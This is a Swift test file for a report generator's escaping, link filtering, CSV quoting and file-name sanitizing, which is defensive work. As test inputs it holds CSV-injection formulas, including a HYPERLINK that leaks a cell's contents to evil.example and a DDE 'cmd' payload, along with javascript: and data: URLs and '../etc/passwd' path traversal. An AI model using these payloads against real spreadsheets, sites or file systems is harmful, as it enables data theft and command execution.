import Foundation
@testable import RemitReport
import Testing

@Suite("Escaping and names")
struct EscapingTests {
    @Test func jsonStringsAreSafeInsideHTMLScriptAndJavaScript() throws {
        let text = "<\u{2028}\u{2029}\u{01}\u{7F}\"\\&>\n\t\u{08}\u{0C}é"
        let quoted = ByteWriterTests.quoted(text)
        #expect(quoted == "\"\\u003c\\u2028\\u2029\\u0001\\u007f\\\"\\\\\\u0026\\u003e\\n\\t\\b\\fé\"")
        let decoded = try JSONSerialization.jsonObject(with: Data(quoted.utf8), options: .fragmentsAllowed) as? String
        #expect(decoded == text)
    }

    @Test func visibleTextShowsInvisibleCharactersAndSplitsMarkupClusters() {
        #expect(VisibleText.of("a\u{202E}b\u{200B}c\u{2066}") == "a[U+202E]b[U+200B]c[U+2066]")
        #expect(VisibleText.of("\"\u{301}x") == "\"[U+0301]x")
        #expect(VisibleText.of("\u{600}\"") == "[U+0600]\"")
        #expect(VisibleText.of("line\u{2028}two\u{1B}") == "line[U+2028]two[U+001B]")
        #expect(VisibleText.of("Zürich, 東京, é") == "Zürich, 東京, é")
        let once = VisibleText.of("x\u{202E}\"\u{301}")
        #expect(VisibleText.of(once) == once)
    }

    /// A page shows at most 2,000 scalars of a value, then how many more there are; a value
    /// of exactly 2,000 (2,000 é, 4,000 bytes) is shown whole.
    @Test func aLongValueShowsItsStartAndHowMuchMore() {
        let long = String(repeating: "R", count: 1 << 20)
        #expect(VisibleText.of(long) == String(repeating: "R", count: 2_000) + "…[1046576 more characters]")
        let accents = String(repeating: "é", count: 2_000)
        #expect(VisibleText.of(accents) == accents)
        #expect(VisibleText.of(accents + "\u{202E}x") == accents + "…[2 more characters]")
    }

    @Test func onlyHTTPLinksBecomeLinks() {
        #expect(SafeLink.href("https://contracts.example/a.pdf") == "https://contracts.example/a.pdf")
        #expect(SafeLink.href("HTTP://x.example") == "HTTP://x.example")
        #expect(SafeLink.href("javascript:alert(1)") == nil)
        #expect(SafeLink.href(" https://x.example") == nil)
        #expect(SafeLink.href("data:text/html,<script>") == nil)
        #expect(SafeLink.href("https://x.example/\u{202E}") == nil)
        #expect(SafeLink.href(nil) == nil)
    }

    @Test func xmlEscapesMarkupAndShowsForbiddenCharacters() {
        #expect(XMLText.escape("<a & \"b\">\u{01}") == "&lt;a &amp; \"b\"&gt;[U+0001]")
        #expect(XMLText.escape("a\"\u{301}\n'", attribute: true) == "a&quot;\u{301}&#10;&apos;")
    }

    @Test func csvQuotesOnlyWhenNeeded() {
        #expect(FindingsCSV.field("plain") == "plain")
        #expect(FindingsCSV.field("a,b") == "\"a,b\"")
        #expect(FindingsCSV.field("say \"\u{301}hi\"") == "\"say \"\"\u{301}hi\"\"\"")
        #expect(FindingsCSV.field("two\nlines") == "\"two\nlines\"")
    }

    /// Control characters (a NUL, an ESC, DEL, C1's NEL) and U+FFFE show as `[U+XXXX]` in the
    /// CSV; tab, LF and CR stay (quoted), and other text past ASCII is untouched.
    @Test func csvShowsControlCharacters() {
        #expect(FindingsCSV.field("C\u{1}\u{1B}[2J\u{7F}\u{85}\u{0}\u{FFFE}Z") == "C[U+0001][U+001B][2J[U+007F][U+0085][U+0000][U+FFFE]Z")
        #expect(FindingsCSV.field("a\tb") == "\"a\tb\"")
        #expect(FindingsCSV.field("20 °C, £5, ＡＢ") == "\"20 °C, £5, ＡＢ\"")
        #expect(FindingsCSV.field("\u{0}=1") == "[U+0000]=1")
    }

    /// A value from a log that a spreadsheet would run (CSV injection) is text there.
    @Test(arguments: ["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                      "\t=1", "\r=1", "=", "-"])
    func csvFieldsASpreadsheetWouldRunStartWithAQuote(_ text: String) {
        let field = FindingsCSV.field(text)
        #expect(field.hasPrefix("\"'"), "\(field)")
        #expect(parseCSV("a," + field + "\r\n") == [["a", "'" + text]])
    }

    /// Where `;` or tab is the separator, a bare field would split into one that starts a formula.
    @Test func csvFieldsWithASemicolonOrTabAreQuoted() {
        #expect(FindingsCSV.field("x;=cmd|' /C calc'!A0") == "\"x;=cmd|' /C calc'!A0\"")
        #expect(FindingsCSV.field("x\t@SUM(1)") == "\"x\t@SUM(1)\"")
        #expect(parseCSV("a," + FindingsCSV.field("x;=1") + "\r\n") == [["a", "x;=1"]])
    }

    @Test func csvFieldsThatStartOtherwiseAreAsTheyAre() {
        for text in ["a=b", "service.delivery", " =1", "\u{FF1D}1", "user+tag", "2026-11-28T00:00:00Z", ""] {
            #expect(FindingsCSV.field(text) == text)
        }
    }

    @Test(arguments: [
        ("cust-acme", "cust-acme"),
        ("Cust.Acme_2", "Cust.Acme_2"),
    ])
    func safeIDsKeepTheirName(id: String, expected: String) {
        #expect(EvidenceFileNames(customerIDs: [id]).fileName(for: id) == expected + ".html")
    }

    @Test(arguments: ["../etc/passwd", "..", ".hidden", "a/b", "a\\b", "", "con", "trailing.", "ÄÖÜ", "a\u{0}b",
                      String(repeating: "x", count: 300)])
    func unsafeIDsAreSanitizedAndSuffixed(id: String) throws {
        let name = try #require(EvidenceFileNames(customerIDs: [id]).fileName(for: id))
        let hash = Digests.sha256Hex(id).prefix(8)
        #expect(name.hasSuffix("-\(hash).html"))
        #expect(!name.contains(".."))
        #expect(!name.hasPrefix("."))
        #expect(name.utf8.count <= 80 + 9 + 5)
        #expect(name.utf8.allSatisfy { byte in
            (0x30...0x39).contains(byte) || (0x41...0x5A).contains(byte) || (0x61...0x7A).contains(byte)
                || byte == UInt8(ascii: "-") || byte == UInt8(ascii: "_") || byte == UInt8(ascii: ".")
        })
    }

    @Test func collidingNamesGetDistinctFiles() {
        let ids = ["acme", "ACME", "a/b", "a_b", "a?b"]
        let names = EvidenceFileNames(customerIDs: ids)
        let files = ids.compactMap { names.fileName(for: $0) }
        #expect(files.count == ids.count)
        #expect(Set(files.map { $0.lowercased() }).count == ids.count)
        #expect(names.fileName(for: "acme") == "acme.html")
        #expect(names.fileName(for: "a_b") == "a_b.html")
    }
}
